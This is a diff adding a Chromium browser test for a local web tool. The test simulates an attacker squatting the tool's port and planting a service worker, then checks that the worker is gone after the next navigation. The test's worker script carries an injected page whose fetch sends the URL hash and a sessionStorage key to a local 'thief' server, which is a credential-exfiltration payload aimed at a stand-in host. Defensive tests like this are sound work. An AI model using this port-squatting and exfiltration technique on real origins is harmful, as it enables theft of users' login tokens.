@@ -330,6 +330,68 @@ self.addEventListener("fetch", (event) => {
   }
 }, 90_000);
 
+test.if(CHROMIUM !== undefined)("in chromium: a worker that takes every navigation (the login URL too) is gone by the next one: the browser's update check meets the real server", async () => {
+  const { chromium } = await import("playwright-core");
+  const port = Number(new URL(base).port);
+  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"] });
+  const stolen: string[] = [];
+  const thief = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: (request) => (stolen.push(request.url), new Response("", { headers: { "access-control-allow-origin": "*" } })) });
+  const worker = `self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener("fetch", (event) => {
+  const url = new URL(event.request.url);
+  if (event.request.mode === "navigate") {
+    event.respondWith(new Response("<p id=evil>evil</p><script>fetch('http://127.0.0.1:${thief.port}/k?' + encodeURIComponent(location.hash + ' ' + sessionStorage.getItem('t4a-key')))</script>", { headers: { "content-type": "text/html" } }));
+  } else event.respondWith(fetch(event.request));
+});`;
+  let squatter: ReturnType<typeof Bun.serve> | undefined;
+  try {
+    const page = await browser.newPage();
+    await page.goto((await t4a(["web"])).stdout);
+    await page.waitForSelector("#new");
+    await t4a(["shutdown"]);
+    squatter = await waitFor(() => {
+      try {
+        return Bun.serve({
+          hostname: "127.0.0.1",
+          port,
+          fetch(request) {
+            if (new URL(request.url).pathname === "/sw.js") return new Response(worker, { headers: { "content-type": "text/javascript" } });
+            return new Response(`<script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => (document.title = "planted"))</script>`, { headers: { "content-type": "text/html" } });
+          },
+        });
+      } catch {
+        return undefined;
+      }
+    }, 10_000, "the port to be free");
+    // The user reloads while the port is someone else's: a worker is registered on the origin.
+    await page.reload();
+    await page.waitForFunction(() => document.title === "planted", undefined, { timeout: 15_000 });
+    squatter.stop(true);
+    squatter = undefined;
+    await waitFor(async () => (await t4a(["web", "--listen", `127.0.0.1:${port}`])).code === 0, 15_000, "the web server back");
+    // The first navigation is the worker's (a login URL opened now is lost to it: end it with --logout-all)...
+    await page.goto((await t4a(["web"])).stdout);
+    await page.waitForSelector("#evil");
+    await waitFor(() => stolen.length > 0, 10_000, "the worker's page to report");
+    stolen.length = 0;
+    // ...and the browser checks the worker's script with the real server, which ends it.
+    await waitFor(async () => (await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((list) => list.length))) === 0, 15_000, "the worker to be gone");
+    await t4a(["web", "--logout-all"]);
+    await page.goto((await t4a(["web"])).stdout);
+    await page.waitForSelector("#new", { timeout: 15_000 });
+    expect(await page.$("#evil")).toBeNull();
+    expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((list) => list.length))).toBe(0);
+    await page.reload();
+    await page.waitForSelector("#new", { timeout: 15_000 });
+    expect(stolen).toEqual([]);
+  } finally {
+    squatter?.stop(true);
+    thief.stop(true);
+    await browser.close();
+  }
+}, 90_000);
+
 test("listening on every interface: the printed URL works, and so does each address it says it answers to", async () => {
   const all = await t4a(["web", "--listen", "0.0.0.0:0"]);
   expect(all.code).toBe(0);
